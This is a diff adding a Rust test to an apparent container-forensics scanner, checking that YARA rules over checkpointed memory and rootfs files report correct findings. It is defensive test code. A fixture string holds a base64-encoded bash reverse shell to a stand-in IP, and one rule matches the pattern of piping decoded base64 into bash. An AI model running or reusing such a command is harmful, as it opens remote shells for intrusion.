@@ -626,3 +626,40 @@ fn pod_archive_with_two_containers_and_older_file_images() {
         assert_eq!(v["status"], "compromised", "{v}");
     }
 }
+
+#[test]
+fn yara_rules_scan_checkpointed_memory_located_by_process_and_mapping() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = archive(dir.path(), "checkpoint.tar", |_| {});
+    let rules = dir.path().join("mem.yar");
+    std::fs::write(
+        &rules,
+        "rule Mem_B64_Shell { meta: author = \"Tester\" score = 90 strings: $p = \"| base64 -d | bash\" condition: $p and filepath == \"\" }\n\
+         rule Fake_Elf { strings: $e = \"ELF fake\" condition: $e and filepath == \"/tmp/.x/kworkerd\" and filetype == \"ELF\" }\n",
+    )
+    .unwrap();
+    let (v, _) = run_json(&["scan", p.to_str().unwrap(), "--yara", rules.to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    let hits = findings(b, "yara.mem.Mem_B64_Shell");
+    assert_eq!(hits.len(), 1, "{}", b["findings"]);
+    let h = hits[0];
+    assert_eq!(h["severity"], "high");
+    assert_eq!(h["owner"]["id"], ID);
+    assert_eq!(h["evidence"][0]["members"][0], "checkpoint/pages-1.img");
+    let at = PAGE + 64 + b"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= ".len() as u64;
+    assert_eq!(h["evidence"][0]["offset"], at);
+    let s = h["summary"].as_str().unwrap();
+    assert!(
+        s.contains("checkpointed memory of pid 42") && s.contains(&format!("at {:#x}", STACK + at)),
+        "{s}"
+    );
+    assert!(h["title"].as_str().unwrap().starts_with("YARA rule Mem_B64_Shell by Tester (mem.yar)"), "{h}");
+    // The files of rootfs-diff.tar are scanned too, with their own path and type.
+    let files = findings(b, "yara.mem.Fake_Elf");
+    assert_eq!(files.len(), 1, "{}", b["findings"]);
+    let ev = &files[0]["evidence"][0];
+    assert!(ev["artifact"].as_str().unwrap().ends_with("checkpoint.tar"), "{ev}");
+    assert_eq!(ev["members"], serde_json::json!(["rootfs-diff.tar", "tmp/.x/kworkerd"]));
+    assert_eq!(ev["offset"], 1);
+    assert_eq!(files[0]["owner"]["id"], ID);
+}
